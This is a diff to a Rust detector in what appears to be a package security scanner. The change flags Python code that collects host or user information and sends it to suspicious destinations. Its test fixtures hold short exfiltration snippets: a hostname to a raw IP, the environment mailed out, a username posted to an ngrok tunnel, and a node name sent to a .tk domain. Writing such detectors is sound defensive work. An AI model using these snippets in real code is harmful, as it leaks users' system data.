@@ -11,11 +11,16 @@
 //! fingerprint (two or more of user, host, MAC, cwd, uname near the same send) is
 //! exfiltration: High. Install time, or High code that runs on import (at module
 //! level, or in a top-level function the module itself calls, not under
-//! `if __name__ == "__main__"`), Critical.
+//! `if __name__ == "__main__"`), Critical. One fact sent where a beacon goes (an
+//! out-of-band collaborator, request bin or tunnel, a throwaway TLD, free hosting, a raw
+//! public IP: [`super::reputation`]) is High, the destination named in the evidence.
+//! Hand-built requests over a raw socket (`s.send(…)` in a file that opens one) are sends.
 
 use super::exec_install_hook::top_blocks;
+use super::net_ip_address::public_ip;
 use super::pysrc::{self, Source, MAX_HITS_PER_FILE};
-use super::sinks;
+use super::reputation::{self, Class};
+use super::{sinks, urls};
 use crate::model::{Category, FileRole, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
 use regex::Regex;
@@ -23,7 +28,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "hunting.system-info",
-    revision: 1,
+    revision: 2,
     title: "Collects system information and sends it over the network.",
     category: Category::Hunting,
     severity: Severity::Medium,
@@ -41,7 +46,7 @@ static DEF_NAME: LazyLock<Regex> =
 
 /// Whether code at `off` runs when the module is imported: it is at module level,
 /// or inside a top-level function called at module level (outside a `__main__` guard).
-fn runs_on_import(src: &Source<'_>, blocks: &[(usize, usize)], off: usize) -> bool {
+pub(crate) fn runs_on_import(src: &Source<'_>, blocks: &[(usize, usize)], off: usize) -> bool {
     let t = src.text;
     let in_block = |o: usize| blocks.iter().find(|b| b.0 <= o && o < b.1).copied();
     let main_guarded = |o: usize| {
@@ -69,6 +74,32 @@ fn runs_on_import(src: &Source<'_>, blocks: &[(usize, usize)], off: usize) -> bo
         let after = t[i + name.len()..].trim_start_matches([' ', '\t']);
         before_ok && after.starts_with('(') && src.is_code(i) && in_block(i).is_none() && !main_guarded(i)
     })
+}
+
+/// A raw socket send (`s.send(b"POST / HTTP/1.1…")`): counted only in files that open a
+/// socket themselves.
+static RAW_SEND: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?-u:\b)\w+\.send\s*\(").expect("raw send"));
+/// A socket connect to a literal IP: `s.connect(("45.77.12.9", 80))`.
+static CONNECT_IP: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"\.connect\s*\(\s*\(\s*['"]([0-9a-fA-F:.]+)['"]"#).expect("connect ip"));
+
+/// Where this file sends to, when that place has a bad name: an out-of-band collaborator,
+/// request bin or tunnel, a throwaway TLD, free hosting, a file drop, or a raw public IP.
+/// A beacon's destination, for the evidence.
+fn shady_destination(src: &Source<'_>) -> Option<String> {
+    let receiver = |c: Class| matches!(c, Class::Collaborator | Class::RequestBin | Class::Tunnel);
+    if let Some((s, e, _)) = reputation::in_text(src.text).find(|&(s, _, c)| receiver(c) && src.is_live(s)) {
+        return Some(src.text[s..e].to_ascii_lowercase());
+    }
+    if let Some(u) = urls::find(src).find(|u| reputation::of_url(&u.host, u.path).is_some() || public_ip(&u.host)) {
+        return Some(u.host);
+    }
+    CONNECT_IP
+        .captures_iter(src.text)
+        .filter(|c| src.is_code(c.get(0).expect("m").start()))
+        .map(|c| c.get(1).expect("ip").as_str())
+        .find(|ip| public_ip(ip))
+        .map(str::to_string)
 }
 
 /// How far (in lines) collection and sending may be apart.
@@ -107,11 +138,20 @@ impl Detector for SystemInfo {
         // Sends only: a bare connect (SMTP EHLO, database drivers) is not a beacon.
         let lines = pysrc::Lines::new(file.text);
         let line_of = |o: usize| lines.line(o);
-        let net: Vec<_> = sinks::network(src)
+        let mut net: Vec<_> = sinks::network(src)
             .into_iter()
             .filter(|s| !s.name.ends_with("connect") && s.name != "socket.create_connection")
             .map(|s| (line_of(s.offset), s.name))
             .collect();
+        if file.text.contains("socket.socket") || file.text.contains("create_connection") {
+            // Hand-built requests over a raw socket.
+            net.extend(
+                RAW_SEND
+                    .find_iter(file.text)
+                    .filter(|m| src.is_code(m.start()))
+                    .map(|m| (line_of(m.start()), m.as_str().trim_end_matches('(').trim_end())),
+            );
+        }
         if net.is_empty() {
             return;
         }
@@ -134,6 +174,8 @@ impl Detector for SystemInfo {
             names.len() >= 2
         };
         let blocks = std::cell::OnceCell::new();
+        let shady = std::cell::OnceCell::new();
+        let shady = || shady.get_or_init(|| shady_destination(src)).as_deref();
         let is_main = file.path.rsplit(['/', '!']).next() == Some("__main__.py");
         let mut n = 0;
         for m in COLLECT.find_iter(file.text) {
@@ -160,6 +202,8 @@ impl Detector for SystemInfo {
             let exfil = dump || fingerprint_near(sink_line);
             let sev = Some(match (install, exfil) {
                 (true, _) => Severity::Critical,
+                // One fact sent to a collaborator, bin, tunnel or raw IP is a beacon.
+                (false, false) if shady().is_some() => Severity::High,
                 (false, false) => Severity::Medium,
                 (false, true) => {
                     let blocks = blocks.get_or_init(|| top_blocks(src));
@@ -170,7 +214,10 @@ impl Detector for SystemInfo {
                     }
                 }
             });
-            let ind = format!("{ind} + {sink}");
+            let ind = match shady() {
+                Some(dest) => format!("{ind} + {sink} to {dest}"),
+                None => format!("{ind} + {sink}"),
+            };
             hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), ind) });
         }
     }
@@ -262,6 +309,41 @@ mod tests {
                     None,
                 ),
                 ("collection far from the send", "pkg/far.py", Runtime, FAR.as_str(), None),
+                (
+                    "host name to a raw IP over a hand-built HTTP request",
+                    "pkg/util.py",
+                    Runtime,
+                    "import socket\ndef ping():\n    s = socket.socket()\n    s.connect(('45.77.12.9', 80))\n    s.send(b'GET /?h=' + socket.gethostname().encode() + b' HTTP/1.1\\r\\n\\r\\n')\n",
+                    Some((5, "socket.gethostname + s.send to 45.77.12.9", High)),
+                ),
+                (
+                    "environment mailed out",
+                    "pkg/report.py",
+                    Runtime,
+                    "def report():\n    s = smtplib.SMTP('mail.example.org', 587)\n    s.sendmail(A, B, json.dumps(dict(os.environ)))\n",
+                    Some((3, "os.environ dump + smtplib.SMTP", High)),
+                ),
+                (
+                    "user name to a tunnel",
+                    "pkg/util.py",
+                    Runtime,
+                    "def cb():\n    requests.post('https://ab12.ngrok-free.app/x', data=getpass.getuser())\n",
+                    Some((2, "getpass.getuser + requests.post to ab12.ngrok-free.app", High)),
+                ),
+                (
+                    "host name to a throwaway TLD",
+                    "pkg/util.py",
+                    Runtime,
+                    "def cb():\n    urlopen('http://upd-check.tk/?' + platform.node())\n",
+                    Some((2, "platform.node + urlopen to upd-check.tk", High)),
+                ),
+                (
+                    "logging library: host name in a record sent to the configured server",
+                    "logkit/handlers.py",
+                    Runtime,
+                    "class HTTPHandler:\n    def emit(self, record):\n        record['host'] = socket.gethostname()\n        requests.post(self.url, json=record)\n",
+                    Some((3, "socket.gethostname + requests.post", Medium)),
+                ),
             ],
         );
     }
